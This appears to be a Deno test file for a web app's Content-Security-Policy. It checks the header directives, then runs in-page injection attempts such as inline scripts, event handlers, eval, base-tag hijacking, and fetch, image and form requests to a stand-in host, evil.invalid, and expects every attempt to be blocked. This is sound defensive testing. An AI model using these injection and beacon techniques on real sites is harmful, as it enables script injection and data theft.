import assert from "node:assert/strict";
import { startServer } from "../support/server.ts";
import { browserTest, openBoard } from "../support/browser.ts";

/** Each directive that the board's page must have, and what it may hold. */
const WANTED: Readonly<Record<string, RegExp>> = {
  "default-src": /^'none'$/,
  "script-src": /^'self' 'sha256-[\w+/=]+'$/,
  "style-src": /^'self'$/,
  "img-src": /^'self' data: blob:$/,
  "frame-ancestors": /^'self'$/,
  "base-uri": /^'none'$/,
  "form-action": /^'self'$/,
  "require-trusted-types-for": /^'script'$/,
};

/** What hostile markup or a script that got in would try, run within the page. */
const ATTEMPTS = `(async () => {
  const reports = [];
  addEventListener("securitypolicyviolation", (event) => reports.push(event.effectiveDirective));
  globalThis.ran = [];
  const attempts = {
    inline_script() {
      const script = document.createElement("script");
      script.append("ran.push('inline script')");
      document.body.append(script);
    },
    inline_handler() {
      const image = document.createElement("img");
      image.setAttribute("onerror", "ran.push('handler')");
      image.src = "data:,";
      document.body.append(image);
    },
    inner_html() { document.body.innerHTML += "<b>x</b>"; ran.push("innerHTML"); },
    evaluated() { (0, eval)("ran.push('eval')"); },
    made() { new Function("ran.push('Function')")(); },
    timer() { setTimeout("ran.push('timer')"); },
    style() {
      const style = document.createElement("style");
      style.append("body{outline:7px solid red}");
      document.head.append(style);
      if (getComputedStyle(document.body).outlineWidth === "7px") ran.push("style");
    },
    base() {
      const base = document.createElement("base");
      base.href = "https://evil.invalid/";
      document.head.append(base);
      if (document.baseURI.includes("evil")) ran.push("base");
    },
    frame() {
      const frame = document.createElement("iframe");
      frame.src = "data:text/html,x";
      document.body.append(frame);
    },
    object() {
      const object = document.createElement("object");
      object.data = "data:text/html,x";
      document.body.append(object);
    },
    foreign_script() {
      const script = document.createElement("script");
      script.src = "https://evil.invalid/x.js";
      document.body.append(script);
    },
    worker() { new Worker("data:,"); ran.push("worker"); },
    async fetched() { await fetch("https://evil.invalid/"); ran.push("fetch"); },
    image() { new Image().src = "https://evil.invalid/p.png"; },
    async imported() { await import("data:text/javascript,ran.push('import')"); },
    form() {
      const form = document.createElement("form");
      form.action = "https://evil.invalid/";
      document.body.append(form);
      form.submit();
    },
  };
  const refused = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    const before = reports.length;
    let thrown = false;
    try {
      await attempt();
    } catch {
      thrown = true;
    }
    for (let n = 0; n < 20 && reports.length === before && !thrown; n++) {
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    if (thrown || reports.length > before) refused.push(name);
  }
  return { ran: globalThis.ran, open: Object.keys(attempts).filter((name) => !refused.includes(name)) };
})()`;

browserTest(
  "S9 the board's policy stops every way to run or send something that markup could try",
  async (browser) => {
    await using server = await startServer();
    const page = await fetch(`${server.url}/autopilot`);
    await page.body?.cancel();
    const policy = Object.fromEntries(
      (page.headers.get("content-security-policy") ?? "").split(";").map((part) => {
        const [name, ...values] = part.trim().split(" ");
        return [name, values.join(" ")];
      }),
    );
    for (const [name, wanted] of Object.entries(WANTED)) assert.match(policy[name] ?? "", wanted, name);
    assert.doesNotMatch(page.headers.get("content-security-policy")!, /unsafe-(inline|eval)|\*|https?:/);

    await using board = await openBoard(browser, `${server.url}/autopilot`);
    const { ran, open } = await board.page.evaluate(ATTEMPTS) as { ran: string[]; open: string[] };
    assert.deepEqual({ ran, open }, { ran: [], open: [] });
  },
);

Deno.test("S9 whatever is no page is no document: errors, answers and scripts carry a policy or a type", async () => {
  await using server = await startServer();
  const paths = [
    "/nothing",
    "/api/autopilot/issues",
    "/api/autopilot/nothing",
    "/healthz",
    "/api/autopilot/openapi.json",
  ];
  for (const path of paths) {
    const answer = await fetch(server.url + path);
    await answer.body?.cancel();
    assert.match(answer.headers.get("content-security-policy") ?? "", /default-src 'none'/, path);
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff", path);
    assert.doesNotMatch(answer.headers.get("content-type") ?? "", /html/, path);
  }
});
